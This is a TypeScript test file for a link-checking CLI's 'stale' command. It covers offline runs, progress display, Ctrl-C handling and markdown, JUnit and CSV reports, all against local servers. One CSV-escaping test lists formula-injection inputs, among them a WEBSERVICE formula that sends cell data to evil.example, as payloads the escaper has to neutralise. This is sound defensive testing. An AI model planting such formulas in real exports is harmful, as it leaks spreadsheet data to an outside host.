import { spawn } from 'node:child_process';
import { execFileSync } from 'node:child_process';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli } from '../../src/cli/main.js';
import { csvCell } from '../../src/format/escape.js';
import { fakeIo } from '../helpers/cli.js';
import { closedPort, startHttpServer } from '../helpers/http-server.js';
import { scratchDir } from '../helpers/scratch.js';

/**
 * `stale` as a scheduled job: how it behaves offline and on Ctrl-C, the progress it shows, and
 * the outputs a CI job reads (the link fetched as written: test/stale.test.ts). Real servers on
 * 127.0.0.1; every name is pinned with --resolve, so nothing leaves the machine.
 */
const ROOT = join(import.meta.dirname, '..', '..');

const tempDir = () => scratchDir('cv-stale-job-');

async function writeAllowlist(dir: string, urls: string[]): Promise<string> {
  const path = join(dir, 'allowlist.json');
  await writeFile(path, JSON.stringify({ urls, domains: [], org_names: [], org_phones: {} }));
  return path;
}

describe('stale offline', () => {
  it('says "network unavailable" once and marks the links not yet checked inconclusive at once; exit 0', {
    timeout: 20_000,
  }, async () => {
    const dir = await tempDir();
    const silent = await startHttpServer({}, { fallback: () => undefined });
    const refused = await closedPort();
    // One link that fails at once, 50 that would each wait for the 10 s timeout.
    await writeAllowlist(dir, [
      `http://down.test:${refused}/x`,
      ...Array.from(
        { length: 50 },
        (_, index) => `http://silent.test:${silent.port}/page/${index}`,
      ),
    ]);
    const io = fakeIo({ cwd: dir });
    const pins = [
      '--resolve',
      'down.test:127.0.0.1',
      '--resolve',
      'silent.test:127.0.0.1',
      '--resolve',
      'probe.test:127.0.0.1',
    ];
    const code = await runCli(
      [
        'stale',
        '--allowlist',
        'allowlist.json',
        ...pins,
        '--allow-private',
        '--timeout',
        '10000',
        '--network-probe',
        `http://probe.test:${refused}/`,
        '--format',
        'json',
      ],
      io,
    );
    expect(code).toBe(0);
    expect(io.err().trim().split('\n')).toEqual([
      expect.stringMatching(
        /^citation-verifier: network unavailable \(the network probe .* failed too: .*\); the links not yet checked are inconclusive$/,
      ),
    ]);
    const report = JSON.parse(io.out()) as {
      checked: number;
      networkUnavailable: string;
      stale: Array<{ url: string; outcome: string; error?: string }>;
    };
    expect(report.checked).toBe(51);
    expect(report.stale.filter((entry) => entry.error === 'network-unavailable')).toHaveLength(50);
    expect(new Set(report.stale.map((entry) => entry.outcome))).toEqual(new Set(['inconclusive']));

    const text = fakeIo({ cwd: dir });
    await runCli(
      [
        'stale',
        '--allowlist',
        'allowlist.json',
        ...pins,
        '--allow-private',
        '--timeout',
        '10000',
        '--network-probe',
        `http://probe.test:${refused}/`,
      ],
      text,
    );
    expect(text.out()).toMatch(/^Network unavailable \(.*\): 50 links not checked\.$/m);
    expect(text.out().match(/^INCONCLUSIVE/gm)).toHaveLength(1);
  });
});

describe('stale progress and Ctrl-C', () => {
  // A GET after HEAD going before new links of its host, so the bar moves early: limiter.test.ts.
  it('the bar shows the last state of a burst: 40 links done at once, 10 still out, reads 40/50', {
    timeout: 20_000,
  }, async () => {
    const dir = await tempDir();
    let release!: () => void;
    const held = new Promise<void>((resolve) => (release = resolve));
    let fastDone = 0;
    const server = await startHttpServer(
      {},
      {
        fallback: async (request, response) => {
          if (request.url?.startsWith('/slow/')) await held;
          else fastDone++;
          response.writeHead(404).end();
        },
      },
    );
    await writeAllowlist(dir, [
      ...Array.from({ length: 40 }, (_, index) => `http://one.test:${server.port}/fast/${index}`),
      ...Array.from({ length: 10 }, (_, index) => `http://one.test:${server.port}/slow/${index}`),
    ]);
    const io = fakeIo({ cwd: dir, tty: true });
    const argv = ['stale', '--allowlist', 'allowlist.json', '--resolve', 'one.test:127.0.0.1'];
    argv.push(
      '--allow-private',
      '--network-probe',
      'off',
      '--per-host',
      '50',
      '--timeout',
      '15000',
    );
    const run = runCli(argv, io);
    try {
      while (fastDone < 40) await new Promise((resolve) => setTimeout(resolve, 20));
      // Well past the 100 ms between redraws, and no link finishes meanwhile.
      await new Promise((resolve) => setTimeout(resolve, 600));
      const states = [...io.err().matchAll(/\] (\d+)\/50 links/g)].map((match) => match[1]);
      expect(states.at(-1)).toBe('40');
    } finally {
      release();
    }
    expect(await run).toBe(2);
  });

  /** `stale --format FORMAT` in a real process, stopped by a real SIGINT once the live link is in. */
  async function interruptedRun(format: string) {
    const dir = await tempDir();
    const live = await startHttpServer({ '/ok': { status: 200 } });
    const silent = await startHttpServer({}, { fallback: () => undefined });
    await writeAllowlist(dir, [
      `http://live.test:${live.port}/ok`,
      ...Array.from(
        { length: 10 },
        (_, index) => `http://silent.test:${silent.port}/page/${index}`,
      ),
    ]);
    const child = spawn(
      process.execPath,
      [
        '--import',
        'tsx',
        join(ROOT, 'src', 'cli', 'bin.ts'),
        'stale',
        '--allowlist',
        join(dir, 'allowlist.json'),
        '--resolve',
        'live.test:127.0.0.1',
        '--resolve',
        'silent.test:127.0.0.1',
        '--allow-private',
        '--network-probe',
        'off',
        '--timeout',
        '20000',
        '--format',
        format,
      ],
      // From the project folder, where `--import tsx` resolves.
      { cwd: ROOT, env: { ...process.env, NODE_OPTIONS: '' }, stdio: ['ignore', 'pipe', 'pipe'] },
    );
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString('utf8')));
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString('utf8')));
    const exited = new Promise<number | null>((resolve) =>
      child.on('exit', (code) => resolve(code)),
    );
    // Interrupt once the live link is answered and the silent ones are waiting.
    const deadline = Date.now() + 20_000;
    while ((live.hits.length === 0 || silent.hits.length === 0) && Date.now() < deadline)
      await new Promise((resolve) => setTimeout(resolve, 50));
    await new Promise((resolve) => setTimeout(resolve, 200));
    child.kill('SIGINT');
    return { code: await exited, stderr, stdout };
  }

  it('Ctrl-C prints what was checked so far and exits 130 (a real process and a real SIGINT)', {
    timeout: 30_000,
  }, async () => {
    const { code, stderr, stdout } = await interruptedRun('json');
    expect({ code, stderr }).toEqual({ code: 130, stderr: '' });
    const report = JSON.parse(stdout) as {
      checked: number;
      interrupted: boolean;
      counts: Record<string, number>;
    };
    expect(report).toMatchObject({
      interrupted: true,
      checked: 1,
      counts: { live: 1, broken: 0, invented: 0, inconclusive: 0, moved: 0 },
    });
  });

  it('an interrupted CSV ends with an interrupted row, a JUnit report with an error case', {
    timeout: 60_000,
  }, async () => {
    const csv = await interruptedRun('csv');
    expect({ code: csv.code, stderr: csv.stderr }).toEqual({ code: 130, stderr: '' });
    const rows = csv.stdout.trimEnd().split('\n');
    expect(rows[0]).toBe('url,outcome,status,error,final_url,found_in,reason');
    expect(rows.at(-1)).toBe(
      ',interrupted,,,,,"Interrupted: checked 1 link before stopping: 1 live, 0 broken, 0 invented, 0 inconclusive."',
    );
    const junit = await interruptedRun('junit');
    expect({ code: junit.code, stderr: junit.stderr }).toEqual({ code: 130, stderr: '' });
    expect(junit.stdout).toContain('<property name="interrupted" value="true"/>');
    expect(junit.stdout).toContain('<testsuite name="stale" tests="2" failures="0" errors="1"');
    expect(junit.stdout).toMatch(
      /<testcase name="interrupted" classname="stale\.interrupted">\s*<error type="interrupted" message="Interrupted: checked 1 link before stopping/,
    );
  });
});

describe('stale output for a scheduled job', () => {
  async function site() {
    const server = await startHttpServer({
      '/ok': { status: 200 },
      '/gone': { status: 404 },
      '/blocked': { status: 403, headers: { 'cf-mitigated': 'challenge' } },
    });
    const dir = await tempDir();
    const p = server.port;
    await writeAllowlist(dir, [
      `http://site.test:${p}/ok`,
      `http://site.test:${p}/gone`,
      `http://site.test:${p}/blocked`,
    ]);
    const flags = [
      '--allowlist',
      'allowlist.json',
      '--resolve',
      'site.test:127.0.0.1',
      '--allow-private',
      '--network-probe',
      'off',
    ];
    return { dir, p, flags };
  }

  it('--format markdown: a table of what is stale, for an issue or a job summary', async () => {
    const { dir, p, flags } = await site();
    const io = fakeIo({ cwd: dir });
    expect(await runCli(['stale', ...flags, '--format', 'markdown'], io)).toBe(2);
    expect(io.out()).toBe(
      [
        '## Stale directory links',
        '',
        'Checked 3 links: 1 live, 1 broken, 0 invented, 1 inconclusive.',
        '',
        '| Outcome | Link | Status | Found in | Why |',
        '| --- | --- | --- | --- | --- |',
        `| ❌ broken | \`http://site.test:${p}/gone\` | 404 | allowlist (urls) | 404 Not Found: the page does not exist |`,
        `| ⚠️ inconclusive | \`http://site.test:${p}/blocked\` | 403 | allowlist (urls) | 403 Forbidden: bot protection (cf-mitigated: challenge) blocks automated checks; a person may well see the page |`,
        '',
      ].join('\n'),
    );
  });

  it('--format junit -o FILE: one test case per link, a failure for broken or invented, written atomically', async () => {
    const { dir, p, flags } = await site();
    const io = fakeIo({ cwd: dir });
    expect(await runCli(['stale', ...flags, '--format', 'junit', '-o', 'stale.xml'], io)).toBe(2);
    expect(io.out()).toBe('');
    const xml = await readFile(join(dir, 'stale.xml'), 'utf8');
    expect(xml).toContain('<testsuite name="stale" tests="3" failures="1" skipped="1">');
    expect(xml.match(/<testcase /g)).toHaveLength(3);
    expect(xml).toContain(
      `<testcase name="http://site.test:${p}/gone" classname="stale.broken">\n      <failure type="broken" message="404 Not Found: the page does not exist">found in: allowlist (urls)</failure>`,
    );
    expect(xml).toContain(`<testcase name="http://site.test:${p}/ok" classname="stale.live"/>`);
    // Well-formed: xmllint, when the machine has it, parses it.
    try {
      execFileSync('xmllint', ['--noout', join(dir, 'stale.xml')]);
    } catch (error) {
      if ((error as NodeJS.ErrnoException).code !== 'ENOENT') throw error;
    }
  });

  it.each([
    ['=webservice("http://evil.example/?"&A1)', `"'=webservice(""http://evil.example/?""&A1)"`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', `"'\rcmd"`],
    ['plain text, with a comma', '"plain text, with a comma"'],
    ['https://x.org/a-b', 'https://x.org/a-b'],
  ])('a CSV cell %j is written %j (no spreadsheet formula)', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it('docs/examples/stale-weekly.yml: the command it schedules runs here and writes the markdown it posts', async () => {
    const workflow = await readFile(join(ROOT, 'docs', 'examples', 'stale-weekly.yml'), 'utf8');
    const command = /run: npx --no-install citation-verifier (stale .*)$/m.exec(workflow)?.[1];
    expect(command).toBeDefined();
    const summaryStep = /run: (cat stale\.md >> "\$GITHUB_STEP_SUMMARY")$/m.exec(workflow)?.[1];
    expect(summaryStep).toBeDefined();
    expect(workflow).toMatch(/CITATION_VERIFIER_ALLOWLIST: allowlist\.json/);
    const { dir, p } = await site();
    // The scheduled command as written, plus only what keeps this test on the machine.
    const argv = [
      ...command!.split(' '),
      '--resolve',
      'site.test:127.0.0.1',
      '--allow-private',
      '--network-probe',
      'off',
    ];
    const io = fakeIo({ cwd: dir, env: { CITATION_VERIFIER_ALLOWLIST: 'allowlist.json' } });
    expect(await runCli(argv, io)).toBe(2);
    const summary = join(dir, 'summary.md');
    execFileSync('bash', ['-c', summaryStep!], {
      cwd: dir,
      env: { ...process.env, GITHUB_STEP_SUMMARY: summary },
    });
    const posted = await readFile(summary, 'utf8');
    expect(posted).toMatch(/^## Stale directory links\n/);
    expect(posted).toContain(`| ❌ broken | \`http://site.test:${p}/gone\` | 404 |`);
  });
});
